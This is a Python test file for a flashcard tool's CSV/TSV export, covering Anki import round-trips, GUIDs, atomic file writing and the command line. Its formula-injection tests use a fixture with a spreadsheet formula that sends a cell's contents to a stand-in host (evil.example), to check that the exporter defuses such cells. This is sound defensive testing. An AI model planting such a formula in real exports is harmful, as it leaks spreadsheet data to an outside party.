"""CSV / TSV export: read back with the csv module and imported with Anki's own text importer."""

from __future__ import annotations

import csv
import html
import io
import os
import stat
from datetime import datetime, timezone
from pathlib import Path

import genanki
import pytest
from anki.collection import Collection, ImportAnkiPackageRequest, ImportCsvRequest
from click.testing import CliRunner

from brokerquiz.cli import cli
from brokerquiz.core.export.anki import export_anki
from brokerquiz.core.deck.cards import generate_cards
from brokerquiz.core.export.csv import export_text, render
from brokerquiz.core.files import ExportError, write_atomically
from brokerquiz.core.deck.load import load_deck
from brokerquiz.core.deck.library import open_deck

DECK_YAML = """\
id: txt
title: Text export
language: en
subjects:
  kafka: Kafka
  redis: Redis Streams
tables:
  perf:
    title: Performance
    rows:
      latency:
        label: Latency
        kafka: a few ms, "fast"
        redis: <1ms & more
      shape:
        label: Shape
        kafka: |-
          line one
          line two\twith a tab
        redis: log
"""


@pytest.fixture
def deck_file(tmp_path) -> Path:
    path = tmp_path / "txt.yaml"
    path.write_text(DECK_YAML, encoding="utf-8")
    return path


@pytest.fixture
def cards(deck_file):
    return generate_cards(load_deck(deck_file))


def by_id(cards, card_id):
    return next(c for c in cards if c.id == card_id)


def test_plain_csv_round_trips_through_the_csv_module(cards):
    rows = list(csv.reader(io.StringIO(render(cards, plain=True))))
    assert rows[0] == ["front", "back", "tags"]
    assert len(rows) == len(cards) + 1
    found = {row[0]: row for row in rows[1:]}
    shape = found["Kafka — Shape?"]
    assert shape[1] == "line one\nline two\twith a tab"
    assert shape[2] == "deck::txt kind::fact table::perf row::shape subject::kafka"
    assert found["Kafka — Latency?"][1] == 'a few ms, "fast"'
    assert found["Redis Streams — Latency?"][1] == "<1ms & more"  # CSV is plain text


def test_choices_are_numbered_on_the_front_and_the_back_says_which(cards):
    rows = list(csv.reader(io.StringIO(render(cards, plain=True))))
    reverse = next(r for r in rows if r[0].startswith("Which subject? Latency: “<1ms"))
    assert reverse[0] == "Which subject? Latency: “<1ms & more”\n1. Kafka\n2. Redis Streams"
    assert reverse[1] == "Redis Streams\nRight: 2. Redis Streams"


def test_russian_labels_in_the_russian_interface():
    from brokerquiz.core.translate import use_language

    deck, generated = open_deck("message-brokers")
    use_language("ru")
    text = render(generated)
    assert "Верно: " in text and "Right: " not in text
    assert "Сравните «Модель»" in text


def test_plain_tsv_is_one_line_per_card_with_html_fields(cards):
    lines = render(cards, tsv=True, plain=True).split("\n")
    assert lines[-1] == ""
    lines = lines[:-1]
    assert lines[0] == "front\tback\ttags"
    assert len(lines) == len(cards) + 1
    assert all(line.count("\t") == 2 for line in lines)
    found = {line.split("\t")[0]: line.split("\t") for line in lines[1:]}
    assert found["Kafka — Shape?"][1] == "line one<br>line two with a tab"
    assert found["Redis Streams — Latency?"][1] == "&lt;1ms &amp; more"


def test_anki_header_lines():
    assert render([]) == (
        "#separator:Comma\n#html:true\n#tags column:3\n#guid column:4\n#columns:Front,Back,Tags,GUID\n"
    )
    assert render([], tsv=True) == (
        "#separator:Tab\n#html:true\n#tags column:3\n#guid column:4\n#columns:Front\tBack\tTags\tGUID\n"
    )


@pytest.mark.parametrize("tsv", [False, True], ids=["csv", "tsv"])
def test_the_default_file_is_html_with_the_apkg_guids(cards, tsv):
    text = render(cards, tsv=tsv)
    rows = list(csv.reader(io.StringIO(text), delimiter="\t" if tsv else ","))[5:]
    assert len(rows) == len(cards) and all(len(row) == 4 for row in rows)
    found = {row[0]: row for row in rows}
    assert found["Kafka — Shape?"][1] == "line one<br>line two with a tab"
    assert found["Redis Streams — Latency?"][1] == "&lt;1ms &amp; more"
    assert found["Kafka — Latency?"][1] == 'a few ms, "fast"'
    assert [row[3] for row in rows] == [genanki.guid_for(c.id) for c in cards]


@pytest.mark.parametrize("tsv", [False, True], ids=["csv", "tsv"])
def test_anki_imports_the_file_as_intended(cards, tmp_path, tsv):
    """Anki's own CSV importer, with the options it reads from the file: no header note, HTML."""
    path = tmp_path / ("cards.tsv" if tsv else "cards.csv")
    export_text(cards, path, tsv=tsv)
    col = Collection(str(tmp_path / "collection.anki2"))
    try:
        metadata = col.get_csv_metadata(str(path), None)
        assert metadata.is_html and metadata.guid_column == 4 and metadata.tags_column == 3
        col.import_csv(ImportCsvRequest(path=str(path), metadata=metadata))
        assert col.note_count() == len({c.front for c in cards}) == len(cards)  # no header note
        assert not col.find_notes('"Front:front"') and not col.find_notes('"Front:#*"')
        nid = col.find_notes('"Front:Kafka — Shape?"')[0]
        note = col.get_note(nid)
        assert note.fields == ["Kafka — Shape?", "line one<br>line two with a tab"]
        assert note.guid == genanki.guid_for("txt/fact/perf/shape/kafka")
        assert note.tags == ["deck::txt", "kind::fact", "row::shape", "subject::kafka", "table::perf"]
        assert "line one<br>line two with a tab" in note.cards()[0].answer()  # rendered as a break
        latency = col.get_note(col.find_notes('"Front:Redis Streams — Latency?"')[0])
        assert latency["Back"] == "&lt;1ms &amp; more"
    finally:
        col.close()


def test_repeated_questions_stay_distinct_notes_on_reimport(cards, tmp_path):
    """Without a GUID column Anki matches notes by their first field: same question, one note."""
    twins = [c._replace(front="Same question?") for c in cards if c.choices is None][:4]
    path = tmp_path / "twins.csv"
    export_text(twins, path)
    col = Collection(str(tmp_path / "collection.anki2"))
    try:
        for _ in range(2):
            col.import_csv(ImportCsvRequest(path=str(path), metadata=col.get_csv_metadata(str(path), None)))
        assert col.note_count() == 4
        backs = sorted(col.get_note(nid)["Back"] for nid in col.find_notes(""))
        assert backs == sorted(html.escape(c.back, quote=False).replace("\n", "<br>").replace("\t", " ") for c in twins)
    finally:
        col.close()


def test_the_guids_are_the_apkg_notes_guids(cards, deck_file, tmp_path):
    deck = load_deck(deck_file)
    apkg = export_anki(deck, cards, tmp_path / "txt.apkg", now=datetime(2026, 11, 20, tzinfo=timezone.utc))
    col = Collection(str(tmp_path / "collection.anki2"))
    try:
        col.import_anki_package(ImportAnkiPackageRequest(package_path=str(apkg.path)))
        in_apkg = {tuple(col.get_note(nid).tags): col.get_note(nid).guid for nid in col.find_notes("")}
    finally:
        col.close()
    rows = list(csv.reader(io.StringIO(render(cards))))[5:]
    assert {tuple(sorted(row[2].split())): row[3] for row in rows} == in_apkg


def test_export_text_writes_utf8(tmp_path):
    deck, generated = open_deck("message-brokers")
    path = tmp_path / "ru.csv"
    assert export_text(generated, path) == len(generated)
    assert path.read_bytes().decode("utf-8") == render(generated)


def test_write_atomically_keeps_the_old_file_when_writing_fails(tmp_path):
    target = tmp_path / "cards.csv"
    target.write_text("old", encoding="utf-8")

    def half(tmp: Path) -> None:
        tmp.write_text("front,back", encoding="utf-8")
        raise RuntimeError("disk pulled out")

    with pytest.raises(RuntimeError):
        write_atomically(target, half)
    assert target.read_text(encoding="utf-8") == "old"
    assert [p.name for p in tmp_path.iterdir()] == ["cards.csv"]


def test_write_atomically_names_a_missing_folder(tmp_path):
    with pytest.raises(ExportError) as error:
        write_atomically(tmp_path / "no" / "x.csv", lambda tmp: None)
    assert str(error.value) == f"cannot write {tmp_path / 'no' / 'x.csv'}: folder {tmp_path / 'no'} does not exist"


def test_write_atomically_leaves_a_target_that_is_not_a_regular_file_alone(tmp_path):
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)  # like -o /dev/null: renaming over it would replace the device
    with pytest.raises(ExportError) as error:
        write_atomically(fifo, lambda tmp: tmp.write_text("x", encoding="utf-8"))
    assert str(error.value) == f"cannot write {fifo}: not a regular file"
    assert stat.S_ISFIFO(fifo.stat().st_mode) and [p.name for p in tmp_path.iterdir()] == ["pipe"]


# --- the command line -------------------------------------------------------------------------


@pytest.mark.parametrize("ext", ["csv", "tsv"])
def test_cli_default_file_name(deck_file, cards, tmp_path, monkeypatch, ext):
    work = tmp_path / "work"
    work.mkdir()
    monkeypatch.chdir(work)
    result = CliRunner().invoke(cli, ["export", ext, "--deck", str(deck_file)])
    assert result.exit_code == 0, result.output
    assert result.output == f"wrote txt.{ext}: {len(cards)} cards from txt\n"
    assert (work / f"txt.{ext}").read_text(encoding="utf-8") == render(cards, tsv=ext == "tsv")


def test_cli_dash_writes_stdout(deck_file, cards):
    result = CliRunner().invoke(cli, ["export", "csv", "--deck", str(deck_file), "-o", "-"])
    assert result.exit_code == 0
    assert result.stdout == render(cards)
    assert result.stderr == f"{len(cards)} cards from txt\n"


def test_cli_output_and_anki_header(deck_file, cards, tmp_path):
    target = tmp_path / "out.txt"
    result = CliRunner().invoke(cli, ["export", "tsv", "--deck", str(deck_file), "-o", str(target), "--anki-header"])
    assert result.exit_code == 0, result.output
    assert target.read_text(encoding="utf-8") == render(cards, tsv=True)  # the default now


@pytest.mark.parametrize("ext", ["csv", "tsv"])
def test_cli_plain_writes_the_header_row_and_plain_rows(deck_file, cards, tmp_path, ext):
    target = tmp_path / f"quizlet.{ext}"
    result = CliRunner().invoke(cli, ["export", ext, "--deck", str(deck_file), "-o", str(target), "--plain"])
    assert result.exit_code == 0, result.output
    text = target.read_text(encoding="utf-8")
    assert text == render(cards, tsv=ext == "tsv", plain=True)
    assert text.startswith("front\tback\ttags\n" if ext == "tsv" else "front,back,tags\n")
    assert "#" not in text.split("\n", 1)[0]
    again = CliRunner().invoke(cli, ["export", ext, "--deck", str(deck_file), "-o", str(target), "--plain"])
    assert again.exit_code == 1 and "--force" in again.output  # an existing file is still refused


@pytest.mark.parametrize("ext", ["csv", "tsv"])
def test_cli_missing_folder(deck_file, tmp_path, ext):
    target = tmp_path / "missing" / f"x.{ext}"
    result = CliRunner().invoke(cli, ["export", ext, "--deck", str(deck_file), "-o", str(target)])
    assert result.exit_code == 1
    assert result.output == f"error: cannot write {target}: folder {target.parent} does not exist\n"


def test_cli_help_has_examples():
    runner = CliRunner()
    for args in (["export"], ["export", "anki"], ["export", "csv"], ["export", "tsv"]):
        result = runner.invoke(cli, [*args, "--help"])
        assert result.exit_code == 0
        assert "Example" in result.output and "brokerquiz export" in result.output


def test_write_atomically_names_an_unwritable_folder(tmp_path, monkeypatch):
    # chmod cannot make a folder unwritable for root, so the OS refusal is simulated where it happens
    def refuse(*args, **kwargs):
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr("brokerquiz.core.files._anonymous", lambda folder: None)  # no O_TMPFILE here
    monkeypatch.setattr("brokerquiz.core.files.tempfile.mkstemp", refuse)
    with pytest.raises(ExportError) as error:
        write_atomically(tmp_path / "x.csv", lambda tmp: None)
    assert str(error.value) == f"cannot write {tmp_path / 'x.csv'}: permission denied"
    assert list(tmp_path.iterdir()) == []


# --- formula injection (https://owasp.org/www-community/attacks/CSV_Injection) -----------------

FORMULA_YAML = """\
id: formula
title: Formulas
language: en
subjects:
  a: "=HYPERLINK(\\"http://evil.example/?\\"&A1)"
  b: Plain
tables:
  t:
    title: T
    rows:
      r:
        label: L
        a: "+1 partition"
        b: "- a bullet"
      s:
        label: S
        a: "-"
        b: ok
"""


@pytest.fixture
def formula_cards(tmp_path):
    path = tmp_path / "formula.yaml"
    path.write_text(FORMULA_YAML, encoding="utf-8")
    cards = generate_cards(load_deck(path))
    # the deck reader strips a leading tab; a card from elsewhere (a database row) may still have one
    return [*cards, cards[0]._replace(id="x/1", front="@SUM(A1:A9)", back="\tcmd", tags=("-x",))]


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def tsv_cells(text: str) -> list[str]:
    return [cell for line in text.splitlines() for cell in line.split("\t")]


@pytest.mark.parametrize("tsv", [False, True], ids=["csv", "tsv"])
def test_no_plain_cell_starts_like_a_formula(formula_cards, tsv):
    cells = (tsv_cells if tsv else csv_cells)(render(formula_cards, tsv=tsv, plain=True))
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'+1 partition" in cells and "'- a bullet" in cells and "'-" in cells  # uniformly, legit text too
    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)
    assert any(cell.startswith("'@SUM(A1:A9)") for cell in cells)
    assert (" cmd" if tsv else "'\tcmd") in cells  # TSV turns the tab into a space: no formula then
    assert "ok" in cells and "'-x" in cells  # only cells that would be formulas change; tags too


def anki_cells(text: str, tsv: bool) -> list[list[str]]:
    """The Front, Back and Tags cells of each row of Anki's file (the GUID is Anki's, as it is)."""
    rows = list(csv.reader(io.StringIO(text), delimiter="\t" if tsv else ","))
    assert rows[0][0].startswith("#separator:") and all(len(row) == 4 for row in rows[5:])
    return [cell for row in rows[5:] for cell in row[:3]]


@pytest.mark.parametrize("tsv", [False, True], ids=["csv", "tsv"])
def test_no_cell_of_ankis_file_starts_like_a_formula(formula_cards, tsv):
    """Anki's file is HTML: the first character becomes a character reference Anki shows as it is."""
    cells = anki_cells(render(formula_cards, tsv=tsv), tsv)
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "&#43;1 partition" in cells and "&#45; a bullet" in cells and "&#45;" in cells
    assert any(cell.startswith("&#61;HYPERLINK(") for cell in cells)
    assert any(cell.startswith("&#64;SUM(A1:A9)") for cell in cells)
    assert " cmd" in cells and "ok" in cells and "'-x" in cells  # a tag is not HTML: a leading '


def test_anki_shows_the_defused_cells_as_the_deck_wrote_them(formula_cards, tmp_path):
    path = tmp_path / "formula.csv"
    export_text(formula_cards[:-1], path)
    col = Collection(str(tmp_path / "collection.anki2"))
    try:
        col.import_csv(ImportCsvRequest(path=str(path), metadata=col.get_csv_metadata(str(path), None)))
        note = col.get_note(col.find_notes('"Back:&#43;1 partition"')[0])
        assert note["Back"] == "&#43;1 partition"  # HTML, which a browser (Anki's card view) shows as:
        assert html.unescape(note.cards()[0].answer()).endswith("<hr id=answer>\n\n+1 partition")
    finally:
        col.close()


@pytest.mark.parametrize("tsv", [False, True], ids=["csv", "tsv"])
@pytest.mark.parametrize("plain", [False, True], ids=["anki", "plain"])
def test_raw_writes_formula_cells_as_they_are(formula_cards, tsv, plain):
    text = render(formula_cards, tsv=tsv, plain=plain, raw=True)
    cells = (tsv_cells if tsv else csv_cells)(text) if plain else anki_cells(text, tsv)
    assert "+1 partition" in cells and "- a bullet" in cells and "-" in cells
    assert not [cell for cell in cells if cell.startswith(("'", "&#"))]


@pytest.mark.parametrize("ext", ["csv", "tsv"])
def test_cli_escapes_unless_raw(formula_cards, tmp_path, ext):
    deck = tmp_path / "formula.yaml"
    safe = CliRunner().invoke(cli, ["export", ext, "--deck", str(deck), "-o", "-"])
    raw = CliRunner().invoke(cli, ["export", ext, "--deck", str(deck), "-o", "-", "--raw"])
    assert safe.exit_code == raw.exit_code == 0
    assert safe.stdout == render(formula_cards[:-1], tsv=ext == "tsv")
    assert raw.stdout == render(formula_cards[:-1], tsv=ext == "tsv", raw=True) != safe.stdout
    target = tmp_path / f"out.{ext}"
    written = CliRunner().invoke(cli, ["export", ext, "--deck", str(deck), "-o", str(target), "--raw"])
    assert written.exit_code == 0 and target.read_text(encoding="utf-8") == raw.stdout


def test_help_documents_raw_and_force():
    for ext in ("csv", "tsv"):
        text = " ".join(CliRunner().invoke(cli, ["export", ext, "--help"]).output.split())
        assert "--raw" in text and "leading '" in text and "--force" in text
    assert "--force" in CliRunner().invoke(cli, ["export", "anki", "--help"]).output
